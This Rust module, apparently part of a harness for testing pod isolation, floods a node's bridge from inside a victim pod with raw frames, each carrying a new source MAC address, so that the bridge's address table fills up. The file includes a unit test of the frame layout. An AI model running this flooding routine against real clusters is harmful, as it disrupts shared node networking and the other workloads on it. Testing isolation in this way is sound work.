//! Frames of a pod, each from another MAC address, which the bridge of its node learns.

use std::io;
use std::os::fd::AsRawFd;
use std::time::Duration;

use anyhow::{Context, Result};
use nix::ifaddrs::getifaddrs;
use nix::sys::socket::{AddressFamily, LinkAddr, MsgFlags, SockFlag, SockType, sendto, socket};

use super::packets::flood;
use super::scene::Scene;

/// The MAC address of the bridge, so that no other pod gets the frames.
const BRIDGE: [u8; 6] = [0x0a, 0x58, 0x0a, 0xf4, 0x00, 0x01];
/// An `EtherType` for experiments; the node drops the frames.
const ETHER_TYPE: [u8; 2] = [0x88, 0xb5];
const SHORTEST: usize = 60;

/// Returns how many frames were sent.
pub(super) fn attack(scene: &Scene, lasting: Duration) -> Result<u64> {
    let pod = scene.victim.pod()?;
    let (socket, interface) = pod.namespace().within(|| -> Result<_> {
        let socket = socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)?;
        Ok((socket, interface("eth0")?))
    })??;
    let mut number = 0;
    Ok(flood(lasting, || {
        number += 1;
        let frame = frame(number);
        sendto(socket.as_raw_fd(), &frame, &interface, MsgFlags::empty())?;
        io::Result::Ok(())
    }))
}

/// The link-layer address of the interface that sends the frames.
fn interface(name: &str) -> Result<LinkAddr> {
    let mut addresses = getifaddrs()?.filter(|it| it.interface_name == name);
    let link = addresses.find_map(|it| it.address?.as_link_addr().copied());
    link.with_context(|| format!("there is no {name}"))
}

fn frame(number: u32) -> Vec<u8> {
    let [a, b, c, d] = number.to_be_bytes();
    let mut frame = [&BRIDGE[..], &[0x02, 0x11, a, b, c, d], &ETHER_TYPE].concat();
    frame.resize(SHORTEST, 0);
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_frame_has_its_own_source() {
        assert_eq!(frame(0x0102_0304)[6..12], [0x02, 0x11, 1, 2, 3, 4]);
        assert_eq!(frame(7).len(), SHORTEST);
    }
}
